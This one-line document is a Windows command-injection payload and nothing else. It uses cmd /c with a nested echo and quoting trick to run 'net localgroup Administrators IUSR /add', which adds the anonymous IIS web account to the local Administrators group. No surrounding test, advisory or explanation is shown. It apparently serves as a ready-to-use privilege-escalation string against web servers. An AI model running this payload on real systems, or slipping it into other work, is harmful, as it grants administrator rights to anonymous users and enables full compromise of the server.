cmd /c "echo "net localgroup Administrators IUSR /add & rem""
